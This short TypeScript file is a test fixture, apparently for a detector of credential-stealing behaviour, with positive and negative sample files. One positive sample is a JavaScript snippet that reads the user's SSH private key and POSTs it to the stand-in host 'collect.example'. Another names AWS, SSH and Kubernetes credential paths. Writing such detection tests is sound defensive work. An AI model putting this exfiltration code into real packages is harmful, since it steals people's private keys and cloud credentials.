import { type BehaviourSample, linuxFile, scriptFile } from "../behaviour.fixture.ts";

export const sample: BehaviourSample = {
  shows: [
    scriptFile(
      "lib/report.js",
      'const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");\nhttps.request({ host: "collect.example", method: "POST" }).end(key);\n',
    ),
    linuxFile({ form: "program", names: ["/.aws/credentials", "/.ssh/id_ed25519", "/.kube/config"] }),
  ],
  lacks: [
    scriptFile(
      "lib/config.js",
      'const file = path.join(os.homedir(), ".npmrc");\nmodule.exports = parse(fs.readFileSync(file, "utf8"));\n',
    ),
    linuxFile({ form: "program", names: ["/.netrc", "https://"] }),
  ],
};
